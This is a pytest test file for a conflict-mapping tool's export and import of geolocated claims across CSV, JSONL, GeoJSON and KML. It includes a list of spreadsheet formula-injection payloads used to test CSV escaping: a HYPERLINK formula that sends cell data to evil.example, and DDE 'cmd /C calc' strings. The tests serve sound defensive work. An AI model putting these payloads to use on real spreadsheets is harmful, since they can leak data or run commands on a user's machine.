"""Export -> import round trips (both backends) and bad-row errors for every format."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from datetime import datetime

import pytest
from fixtures_pg import make_claim, make_source

from geomap.errors import GeomapError
from geomap.formats import FORMATS, export_claims, read_claims
from geomap.store import open_store

NASTY = 'He said "<b>Toretsk</b> & co" ,\nnext line; tab\there — Торецьк'


def _sample():
    src = make_source(1, author="A. Writer", title=NASTY)
    src2 = make_source(2, url=None, published=None, ingested_at=datetime(2025, 3, 1, 8, 30))
    return [
        make_claim(
            source=src,
            quote=NASTY,
            start=10,
            end=52,
            confidence=0.8123456789012345,
            place_as_written="Dzerzhinsk",
            notes="first",
        ),  # fmt: skip
        make_claim(
            "donetsk_oblast",
            "ukraine",
            "fighting",
            "2025-02-01",
            source=src,
            date_precision="month",
            review_status="confirmed",
        ),  # fmt: skip
        make_claim(
            "kyiv",
            "third-party",
            "assessment",
            None,
            source=src2,
            extractor=None,
            extractor_version=None,
            origin="human",
            claimant=None,
        ),  # fmt: skip
        make_claim("pokrovsk", "ukraine", "holding", "2025-02-03"),
    ]


def _key(claims):
    return sorted(
        ((c, c.source) for c in claims), key=lambda cs: (cs[0].place.id, str(cs[0].claim_date))
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_round_trip_through_store(db_url, tmp_path, fmt, request):
    claims = _sample()
    with open_store(db_url) as s:
        s.import_claims(claims)
        stored = s.claims()
        path = tmp_path / f"out.{fmt}"
        assert export_claims(stored, path) == 4
    back = read_claims(path)
    assert _key(back) == _key(claims)
    # ... and into a second, empty database of the same kind.
    if db_url.startswith("sqlite"):
        url2 = f"sqlite:///{tmp_path / 'second.db'}"
    else:
        url2 = request.getfixturevalue("pg_server").new_database()
    with open_store(url2) as s2:
        res = s2.import_claims(back)
        assert (res.added, res.skipped) == (4, 0)
        again = s2.import_claims(read_claims(path))  # importing twice adds nothing
        assert (again.added, again.skipped) == (0, 4)
        assert _key(s2.claims()) == _key(claims)


def test_geojson_is_rfc7946_lon_lat(tmp_path):
    path = tmp_path / "x.geojson"
    export_claims(_sample(), path)
    doc = json.loads(path.read_text())
    assert doc["type"] == "FeatureCollection"
    f = next(f for f in doc["features"] if f["properties"]["location"] == "Kyiv")
    assert f["geometry"] == {"type": "Point", "coordinates": [30.5234, 50.4501]}
    assert f["properties"]["side"] == "third-party"


def test_kml_is_valid_escaped_xml(tmp_path):
    path = tmp_path / "x.kml"
    export_claims(_sample(), path)
    text = path.read_text()
    assert "<b>" not in text and "&lt;b&gt;" in text
    root = ET.fromstring(text)  # parses: well-formed
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    assert root.tag == "{http://www.opengis.net/kml/2.2}kml"
    pms = root.findall("k:Document/k:Placemark", ns)
    assert len(pms) == 4
    coords = [pm.find("k:Point/k:coordinates", ns).text for pm in pms]
    assert "30.5234,50.4501" in coords
    quotes = [d.findtext("k:value", namespaces=ns) for d in root.iter(f"{{{ns['k']}}}Data")
              if d.get("name") == "quote"]  # fmt: skip
    assert NASTY in quotes


def test_kml_replaces_characters_xml_forbids(tmp_path):
    path = tmp_path / "x.kml"
    export_claims([make_claim(quote="bell\x07 here")], path)
    ET.fromstring(path.read_text())
    assert read_claims(path)[0].quote == "bell\ufffd here"


def _write_csv_with_bad_row(tmp_path, column, value):
    path = tmp_path / "in.csv"
    export_claims(_sample(), path)
    lines = path.read_text().splitlines(keepends=True)
    header = lines[0].rstrip("\n").split(",")
    # Rows are one line each except the first (its quote spans two lines): lines 2-3.
    idx = header.index(column)
    last = lines[-1].rstrip("\n").split(",")
    last[idx] = value
    lines[-1] = ",".join(last) + "\n"
    path.write_text("".join(lines))
    return path, len(lines)


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("latitude", "north", "field 'latitude': expected a number"),
        ("latitude", "123", "field 'latitude': 123.0 is outside"),
        ("event_date", "2025-13-45", "field 'event_date': expected a date"),
        ("side", "nato", "field 'side': side 'nato' is not one of"),
        ("event_type", "", "field 'event_type': missing"),
        ("quote_start", "1.5", "field 'quote_start': expected a whole number"),
        ("rules", "cue.captured <script>", "field 'rules': rule id '<script>'"),
    ],
)
def test_bad_csv_row_names_file_line_field_and_nothing_is_written(tmp_path, column, value, message):
    path, line = _write_csv_with_bad_row(tmp_path, column, value)
    with pytest.raises(GeomapError) as ei:
        read_claims(path)
    assert str(ei.value).startswith(f"{path}: line {line}: {message}"), str(ei.value)


def test_bad_jsonl_and_geojson(tmp_path):
    p = tmp_path / "x.jsonl"
    export_claims(_sample(), p)
    lines = p.read_text().splitlines()
    lines.insert(2, "{not json")
    p.write_text("\n".join(lines))
    with pytest.raises(GeomapError, match=r"x\.jsonl: line 3: bad JSON"):
        read_claims(p)
    row = json.loads(lines[1])
    row["confidence"] = "high"
    lines[2] = json.dumps(row)
    p.write_text("\n".join(lines))
    with pytest.raises(GeomapError, match=r"line 3: field 'confidence': expected a number"):
        read_claims(p)
    g = tmp_path / "x.geojson"
    export_claims(_sample(), g)
    doc = json.loads(g.read_text())
    doc["features"][1]["geometry"] = {"type": "LineString", "coordinates": [[1, 2], [3, 4]]}
    g.write_text(json.dumps(doc))
    with pytest.raises(GeomapError, match=r"feature 2: field 'geometry'"):
        read_claims(g)


def test_csv_short_acled_style_file_resolves_locations(tmp_path, gaz):
    """A minimal ACLED-like file without place ids: locations go through the gazetteer."""
    from geomap.places import resolve_place

    p = tmp_path / "acled.csv"
    p.write_text(
        "event_date,actor,side,event_type,location,latitude,longitude,notes,source\n"
        "2025-02-07,Russian MoD,russia,captured,Dzerzhinsk,,,hand-written,https://x.example/1\n"
    )
    [c] = read_claims(p, resolve=lambda n: resolve_place(n, strict=False))
    assert c.place.name in ("Toretsk", "Dzerzhinsk")
    assert c.source.url == "https://x.example/1" and c.claimant == "Russian MoD"


def test_unknown_extension_and_missing_file(tmp_path):
    with pytest.raises(GeomapError, match="--format"):
        read_claims(tmp_path / "x.txt")
    with pytest.raises(GeomapError, match="no such file"):
        read_claims(tmp_path / "missing.csv")


def test_hand_made_csv_with_only_a_place_id(tmp_path, gaz):
    from geomap.places import resolve_place

    p = tmp_path / "ids.csv"
    p.write_text("event_date,side,event_type,place_id\n2025-02-07,ukraine,holding,709354\n")
    [c] = read_claims(p, resolve=lambda n: resolve_place(n, strict=False))
    assert (c.place.id, c.place.name) == ("709354", "Toretsk")
    p.write_text("event_date,side,event_type,place_id\n2025-02-07,ukraine,holding,123456789\n")
    with pytest.raises(GeomapError, match=r"line 2: field 'place_id'"):
        read_claims(p, resolve=lambda n: resolve_place(n, strict=False))


# -- spreadsheet formula injection ---------------------------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'already quoted",
    "''=twice",
    "'",
    "=",
    "'=1",
    "plain text, then =1+1",
]


def _hostile_claims(url: str = "=1+1"):
    """Hostile cells in every text column; `url` is the last claim's source URL (an import
    refuses a non-http one, so round trips pass an http URL)."""
    from geomap.records import PlaceRef

    west = PlaceRef("=9001", "-Westtown", "settlement", -12.5, -3.25, "XX", "@X.1", 10)
    out = []
    for i, h in enumerate(HOSTILE):
        src = make_source(100 + i, title=h, outlet=h, author=h)
        out.append(
            make_claim(
                "toretsk",
                source=src,
                quote=h,
                claimant=h,
                notes=h,
                place_as_written=h,
                extractor=h,
                extractor_version=h,
            )  # fmt: skip
        )
    c = make_claim(source=make_source(99, url=url, content_hash="-1"), quote="west")
    out.append(type(c)(**{**c.__dict__, "place": west}))
    return out


def test_csv_cells_cannot_start_a_formula(tmp_path):
    import csv

    from geomap.formats.csv import TEXT_COLUMNS, escape_cell

    path = tmp_path / "hostile.csv"
    export_claims(_hostile_claims(), path)
    with open(path, encoding="utf-8", newline="") as fp:
        rows = list(csv.DictReader(fp))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for k, v in row.items():
            if k in TEXT_COLUMNS:
                assert not v.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (k, v)
                if v.startswith("'"):  # escaped text, or text that started with a quote
                    assert v[1:].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "'")), (k, v)
            elif v.startswith("-"):
                float(v)  # only numbers may start with a minus (a negative coordinate)
    west = rows[-1]
    assert (west["latitude"], west["longitude"]) == ("-12.5", "-3.25")
    assert (west["location"], west["place_id"]) == ("'-Westtown", "'=9001")
    assert (west["source"], west["source_hash"], west["admin1"]) == ("'=1+1", "'-1", "'@X.1")
    by_quote = {r["quote"]: r for r in rows}
    assert by_quote[escape_cell(HOSTILE[0])]["actor"] == "'" + HOSTILE[0]
    # Text that starts with the escape quote gets one more, so import can tell them apart.
    assert {"''already quoted", "'''=twice", "''", "''=1", "'="} <= set(by_quote)
    assert by_quote["plain text, then =1+1"]["notes"] == "plain text, then =1+1"


def test_csv_hostile_cells_round_trip_through_both_backends(db_url, tmp_path, request):
    claims = _hostile_claims(url="https://news.example/=1+1")
    with open_store(db_url) as s:
        s.import_claims(claims)
        path = tmp_path / "hostile.csv"
        assert export_claims(s.claims(), path) == len(claims)
    back = read_claims(path)
    assert _key(back) == _key(claims)
    assert {c.quote for c in back} == {*HOSTILE, "west"}
    assert {c.source.title for c in back if c.source.title != "Report 99"} == set(HOSTILE)
    if db_url.startswith("sqlite"):
        url2 = f"sqlite:///{tmp_path / 'second.db'}"
    else:
        url2 = request.getfixturevalue("pg_server").new_database()
    with open_store(url2) as s2:
        assert s2.import_claims(back).added == len(claims)
        assert s2.import_claims(read_claims(path)).added == 0  # same cells: all already stored
        assert _key(s2.claims()) == _key(claims)


def test_hand_made_csv_keeps_a_leading_quote_not_before_a_formula(tmp_path):
    p = tmp_path / "hand.csv"
    p.write_text(
        "event_date,side,event_type,location,latitude,longitude,place_id,actor,notes\n"
        "2025-02-07,russia,captured,Toretsk,48.3978,37.8469,1001,'Tis the MoD,'-5 km west\n"
    )
    [c] = read_claims(p)
    assert (c.claimant, c.notes) == ("'Tis the MoD", "-5 km west")


@pytest.mark.parametrize("fmt", FORMATS)
def test_formats_stream_from_a_generator_and_empty_files_read_back(tmp_path, fmt):
    """Writers consume an iterator once (exports stream from the store); none is empty too."""
    path = tmp_path / f"x.{fmt}"
    assert export_claims((c for c in _sample()), path) == 4
    assert _key(read_claims(path)) == _key(_sample())
    empty = tmp_path / f"empty.{fmt}"
    assert export_claims(iter(()), empty) == 0
    assert read_claims(empty) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_claim_rules_round_trip_through_every_format(db_url, tmp_path, fmt):
    """Provenance (issue 9, migration 0004): rule ids survive store -> export -> import."""
    claims = _sample()
    claims[0].rules = ("attr.speech", "cue.captured.captur")
    with open_store(db_url) as s:
        s.import_claims(claims)
        stored = s.claims()
        assert {c.rules for c in stored} == {("attr.speech", "cue.captured.captur"), ()}
        path = tmp_path / f"rules.{fmt}"
        export_claims(stored, path)
    back = read_claims(path)
    assert sorted(c.rules for c in back) == sorted(c.rules for c in stored)
